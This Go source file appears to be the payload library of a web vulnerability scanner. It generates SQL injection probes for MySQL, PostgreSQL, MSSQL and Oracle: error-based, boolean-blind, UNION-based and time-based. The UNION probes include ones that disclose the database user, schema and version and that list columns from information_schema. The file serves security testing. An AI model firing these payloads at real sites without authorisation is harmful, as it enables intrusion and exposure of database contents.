package payloads

import (
	"fmt"
	"strings"

	"github.com/Rimaestro/vulnity-kp/pkg/finding"
)

// DefaultUnionColumns bounds generated UNION probes.
const DefaultUnionColumns = 5

// DefaultSleepSeconds is the base delay time probes request.
const DefaultSleepSeconds = 2

// SQLiErrorProbes returns the syntax-breaking probes the error-based
// strategy sends. Generic quote breaks come first; dialect-specific
// error extraction follows so a single hit also fingerprints the
// backend.
func SQLiErrorProbes() []Payload {
	generic := []struct {
		value string
		desc  string
	}{
		{"'", "single quote break"},
		{"\"", "double quote break"},
		{"' OR '1'='1", "classic OR true"},
		{"' OR '1'='1' -- ", "OR true with comment"},
		{"\" OR \"1\"=\"1", "double quote OR true"},
		{"') OR ('1'='1", "parenthesis escape"},
		{"1' OR '1' = '1", "numeric field quote break"},
		{"' OR ''='", "empty string comparison"},
		{"1' ORDER BY 1-- ", "ORDER BY low probe"},
		{"1' ORDER BY 10-- ", "ORDER BY high probe"},
	}

	dialect := []struct {
		value   string
		desc    string
		dialect Dialect
	}{
		{"' AND EXTRACTVALUE(1,CONCAT(0x7e,VERSION()))-- ", "EXTRACTVALUE error extraction", DialectMySQL},
		{"' AND UPDATEXML(1,CONCAT(0x7e,VERSION()),1)-- ", "UPDATEXML error extraction", DialectMySQL},
		{"' AND CAST((SELECT version()) AS int)-- ", "version cast error", DialectPostgreSQL},
		{"' AND 1=CONVERT(int,@@version)-- ", "version convert error", DialectMSSQL},
		{"' AND CTXSYS.DRITHSX.SN(user,(SELECT banner FROM v$version WHERE ROWNUM=1))=1-- ", "context index error", DialectOracle},
	}

	out := make([]Payload, 0, len(generic)+len(dialect))
	for i, p := range generic {
		out = append(out, Payload{
			Name:        fmt.Sprintf("sqli-error-%02d", i+1),
			Value:       p.value,
			Class:       finding.ClassSQLi,
			Strategy:    finding.StrategyErrorBased,
			Risk:        finding.High,
			Description: p.desc,
			CWE:         CWESQLi,
			Dialect:     DialectGeneric,
		})
	}
	for _, p := range dialect {
		out = append(out, Payload{
			Name:        "sqli-error-" + string(p.dialect),
			Value:       p.value,
			Class:       finding.ClassSQLi,
			Strategy:    finding.StrategyErrorBased,
			Risk:        finding.High,
			Description: p.desc,
			CWE:         CWESQLi,
			Dialect:     p.dialect,
		})
	}
	return out
}

// BoolPair is one boolean-blind probe set: a condition that keeps the
// WHERE clause true, its false twin, and an OR form that widens the
// result set.
type BoolPair struct {
	Name  string
	True  string
	False string
	Or    string
}

// BooleanPairs returns the boolean-blind probe sets, one per quoting
// style.
func BooleanPairs() []BoolPair {
	return []BoolPair{
		{
			Name:  "single-quote",
			True:  "' AND '1'='1",
			False: "' AND '1'='2",
			Or:    "' OR '1'='1",
		},
		{
			Name:  "double-quote",
			True:  "\" AND \"1\"=\"1",
			False: "\" AND \"1\"=\"2",
			Or:    "\" OR \"1\"=\"1",
		},
		{
			Name:  "parenthesis",
			True:  "') AND ('1'='1",
			False: "') AND ('1'='2",
			Or:    "') OR ('1'='1",
		},
		{
			Name:  "numeric",
			True:  "1 AND 1=1",
			False: "1 AND 1=2",
			Or:    "1 OR 1=1",
		},
	}
}

// UnionProbes generates UNION SELECT probes from one NULL up to
// maxColumns, in plain, parenthesised and UNION ALL forms, followed by
// metadata probes that make a successful injection print database
// identity into the page.
func UnionProbes(maxColumns int) []Payload {
	if maxColumns <= 0 {
		maxColumns = DefaultUnionColumns
	}

	var out []Payload
	add := func(name, value, desc string, dialect Dialect) {
		out = append(out, Payload{
			Name:        name,
			Value:       value,
			Class:       finding.ClassSQLi,
			Strategy:    finding.StrategyUnionBased,
			Risk:        finding.High,
			Description: desc,
			CWE:         CWESQLi,
			Dialect:     dialect,
		})
	}

	for n := 1; n <= maxColumns; n++ {
		nulls := strings.TrimSuffix(strings.Repeat("NULL,", n), ",")
		add(fmt.Sprintf("union-null-%d", n),
			fmt.Sprintf("' UNION SELECT %s-- ", nulls),
			fmt.Sprintf("column count probe, %d columns", n), DialectGeneric)
		add(fmt.Sprintf("union-null-%d-paren", n),
			fmt.Sprintf("') UNION SELECT %s-- ", nulls),
			fmt.Sprintf("parenthesised column count probe, %d columns", n), DialectGeneric)
		add(fmt.Sprintf("union-all-null-%d", n),
			fmt.Sprintf("' UNION ALL SELECT %s-- ", nulls),
			fmt.Sprintf("UNION ALL column count probe, %d columns", n), DialectGeneric)
	}

	add("union-meta-user-db", "' UNION SELECT user(),database()-- ",
		"session user and schema disclosure", DialectMySQL)
	add("union-meta-db-version", "1' UNION SELECT database(),version()-- ",
		"schema and version disclosure", DialectMySQL)
	add("union-meta-version", "' UNION SELECT @@version,NULL-- ",
		"server version disclosure", DialectGeneric)
	add("union-meta-schema",
		"' UNION ALL SELECT CONCAT(table_name,'::',column_name),NULL FROM information_schema.columns-- ",
		"information_schema traversal", DialectMySQL)
	return out
}

// TimeProbes returns the per-dialect delay probes with SleepSlot
// substituted. Each quoting style gets its own variant because the
// probe only fires when it completes the surrounding expression.
func TimeProbes(delaySeconds int) []Payload {
	if delaySeconds <= 0 {
		delaySeconds = DefaultSleepSeconds
	}

	templates := []struct {
		name    string
		value   string
		dialect Dialect
	}{
		{"time-mysql-sq", "' AND (SELECT * FROM (SELECT(SLEEP(%SLEEP%)))a)-- ", DialectMySQL},
		{"time-mysql-dq", "\" AND (SELECT * FROM (SELECT(SLEEP(%SLEEP%)))a)-- ", DialectMySQL},
		{"time-mysql-paren", "') AND (SELECT * FROM (SELECT(SLEEP(%SLEEP%)))a)-- ", DialectMySQL},
		{"time-postgres-sq", "' AND (SELECT pg_sleep(%SLEEP%))-- ", DialectPostgreSQL},
		{"time-postgres-dq", "\" AND (SELECT pg_sleep(%SLEEP%))-- ", DialectPostgreSQL},
		{"time-postgres-paren", "') AND (SELECT pg_sleep(%SLEEP%))-- ", DialectPostgreSQL},
		{"time-mssql-sq", "' WAITFOR DELAY '0:0:%SLEEP%'-- ", DialectMSSQL},
		{"time-mssql-paren", "') WAITFOR DELAY '0:0:%SLEEP%'-- ", DialectMSSQL},
		{"time-oracle-sq", "' AND 1=DBMS_PIPE.RECEIVE_MESSAGE(CHR(99)||CHR(104)||CHR(97)||CHR(114),%SLEEP%)-- ", DialectOracle},
	}

	out := make([]Payload, 0, len(templates))
	for _, t := range templates {
		out = append(out, Payload{
			Name:        t.name,
			Value:       t.value,
			Class:       finding.ClassSQLi,
			Strategy:    finding.StrategyTimeBased,
			Risk:        finding.High,
			Description: "conditional delay probe",
			CWE:         CWESQLi,
			Dialect:     t.dialect,
		}.WithSleep(delaySeconds))
	}
	return out
}

// AggressiveTimeProbes returns the heavy fallback probes tried once
// per parameter when the standard delay probes stay silent. The
// cross-join forms burn measurable time even where SLEEP is filtered.
func AggressiveTimeProbes(delaySeconds int) []Payload {
	if delaySeconds <= 0 {
		delaySeconds = DefaultSleepSeconds
	}

	five := "(SELECT 1 UNION SELECT 2 UNION SELECT 3 UNION SELECT 4 UNION SELECT 5)"
	two := "(SELECT 1 UNION SELECT 2)"
	templates := []struct {
		name    string
		value   string
		dialect Dialect
	}{
		{"time-aggr-crossjoin-125",
			"' AND (SELECT COUNT(*) FROM " + five + " x JOIN " + five + " y JOIN " + five + " z) > 0 AND SLEEP(%SLEEP%)-- ",
			DialectMySQL},
		{"time-aggr-crossjoin-32",
			"' AND (SELECT COUNT(*) FROM " + two + " x JOIN " + two + " y JOIN " + two + " z JOIN " + two + " a JOIN " + two + " b) > 0 AND SLEEP(%SLEEP%)-- ",
			DialectMySQL},
		{"time-aggr-pgsleep", "' AND (SELECT pg_sleep(%SLEEP%))-- ", DialectPostgreSQL},
		{"time-aggr-waitfor", "'; WAITFOR DELAY '0:0:%SLEEP%'-- ", DialectMSSQL},
	}

	out := make([]Payload, 0, len(templates))
	for _, t := range templates {
		out = append(out, Payload{
			Name:        t.name,
			Value:       t.value,
			Class:       finding.ClassSQLi,
			Strategy:    finding.StrategyTimeBased,
			Risk:        finding.High,
			Description: "aggressive delay fallback",
			CWE:         CWESQLi,
			Dialect:     t.dialect,
		}.WithSleep(delaySeconds))
	}
	return out
}
